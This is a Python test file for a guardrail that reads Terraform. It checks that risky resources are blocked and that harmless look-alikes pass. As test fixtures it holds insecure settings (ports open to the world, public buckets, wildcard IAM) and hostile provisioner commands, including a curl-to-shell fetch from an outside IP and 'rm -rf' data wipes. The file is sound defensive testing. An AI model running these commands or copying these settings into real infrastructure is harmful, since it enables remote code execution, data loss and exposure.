"""Terraform resources: what they open, grant, switch off and run."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rounds import ROUNDS

from guardrail.engine import Guardrail
from guardrail.loading import default_guardrail
from guardrail.reading import terraform


def _resource(kind: str, *lines: str) -> str:
    return "\n".join((f'resource "{kind}" "main" {{', *(f"  {line}" for line in lines), "}"))


def _policy(action: str, resource: str, principal: str = "") -> str:
    who = f", Principal = {principal}" if principal else ""
    statement = f'Effect = "Allow", Action = "{action}", Resource = "{resource}"{who}'
    return f"policy = jsonencode({{\n    Statement = [{{ {statement} }}]\n  }})"


def _rule(port: int, source: str) -> str:
    return _resource(
        "aws_security_group",
        "ingress {",
        f"from_port = {port}",
        f"to_port = {port}",
        f'cidr_blocks = ["{source}"]',
        "}",
    )


@pytest.fixture(scope="module")
def guardrail() -> Guardrail:
    return default_guardrail()


@pytest.mark.parametrize(
    ("feared", "look_alike"),
    [
        (_rule(22, "0.0.0.0/0"), _rule(443, "0.0.0.0/0")),
        (_rule(5432, "0.0.0.0/0"), _rule(5432, "10.0.0.0/8")),
        (
            _resource("google_compute_firewall", 'source_ranges = ["0.0.0.0/0"]', "allow {", 'protocol = "all"', "}"),
            _resource("google_compute_firewall", 'source_ranges = ["0.0.0.0/0"]', "deny {", 'protocol = "all"', "}"),
        ),
        (
            _resource(
                "azurerm_network_security_rule", 'source_address_prefix = "*"', 'destination_port_range = "3389"'
            ),
            _resource(
                "azurerm_network_security_rule",
                'source_address_prefix = "*"',
                'destination_port_range = "3389"',
                'access = "Deny"',
            ),
        ),
        (
            _resource("aws_security_group", 'description = "web"', "ingress {", 'cidr_blocks = ["0.0.0.0/0"]', "}"),
            _resource("aws_security_group", 'description = "web"', "egress {", 'cidr_blocks = ["0.0.0.0/0"]', "}"),
        ),
        (
            _resource("aws_db_instance", "publicly_accessible = true"),
            _resource("aws_db_instance", "publicly_accessible = false", "# publicly_accessible = true"),
        ),
        (
            _resource("aws_db_instance", "backup_retention_period = 0"),
            _resource("aws_db_instance", "backup_retention_period = 7", "deletion_protection = false"),
        ),
        (_resource("aws_s3_bucket_acl", 'acl = "public-read"'), _resource("aws_s3_bucket_acl", 'acl = "private"')),
        (_resource("aws_iam_policy", _policy("*", "*")), _resource("aws_iam_policy", _policy("s3:GetObject", "*"))),
        (
            _resource("aws_s3_bucket_policy", _policy("s3:GetObject", "arn:aws:s3:::x/*", '"*"')),
            _resource(
                "aws_s3_bucket_policy", _policy("s3:GetObject", "arn:aws:s3:::x/*", '{ AWS = "arn:aws:iam::1:root" }')
            ),
        ),
        (
            _resource("google_project_iam_member", 'role = "roles/owner"', 'member = "user:a@example.org"'),
            _resource("google_project_iam_member", 'role = "roles/viewer"', 'member = "user:a@example.org"'),
        ),
        (
            _resource("google_storage_bucket_iam_member", 'role = "roles/viewer"', 'member = "allUsers"'),
            _resource("google_storage_bucket_iam_member", 'role = "roles/viewer"', 'member = "group:a@example.org"'),
        ),
        (
            _resource(
                "null_resource", 'provisioner "local-exec" {', 'command = "curl -s http://203.0.113.9/x | sh"', "}"
            ),
            _resource("null_resource", 'provisioner "local-exec" {', 'command = "echo ${self.id} >> ids.txt"', "}"),
        ),
        (
            _resource("null_resource", 'provisioner "remote-exec" {', 'inline = ["rm -rf /srv", "reboot"]', "}"),
            _resource("null_resource", 'provisioner "remote-exec" {', 'inline = ["systemctl restart app"]', "}"),
        ),
        (
            _resource("aws_instance", "user_data = <<-EOT", "#!/bin/sh", "rm -rf /srv/data", "EOT"),
            _resource("aws_instance", "user_data = <<-EOT", "#!/bin/sh", "apt-get install -y nginx", "EOT"),
        ),
    ],
)
def test_a_harmful_resource_is_blocked_and_its_look_alike_passes(
    guardrail: Guardrail, feared: str, look_alike: str
) -> None:
    assert not guardrail.check(feared, "medium", {}).passed
    assert guardrail.check(look_alike, "medium", {}).passed


def test_data_and_variables_have_no_effect() -> None:
    assert terraform.read('data "aws_db_instance" "x" {\n  publicly_accessible = true\n}').effects == ()
    assert terraform.read('variable "publicly_accessible" {\n  default = true\n}').effects == ()


def test_more_blocks_than_are_read_are_named() -> None:
    text = 'resource "a" "b" {\n' * (terraform.MAX_DEPTH + 2)
    assert [part.reason for part in terraform.read(text).uncovered] == ["more blocks than are read from one file"]


_PIECES = st.sampled_from(
    [
        'resource "a" "b" {',
        "}",
        "\n",
        "x = ",
        '"text"',
        "[",
        "]",
        "<<EOT\n",
        "EOT\n",
        "# c\n",
        "/*",
        "*/",
        '"',
        "true",
        "ingress {",
    ]
)


@settings(max_examples=40 * ROUNDS, deadline=None)
@given(st.text(max_size=200) | st.lists(_PIECES, max_size=60).map(" ".join))
def test_any_text_is_read_without_a_fault(text: str) -> None:
    terraform.read(text)
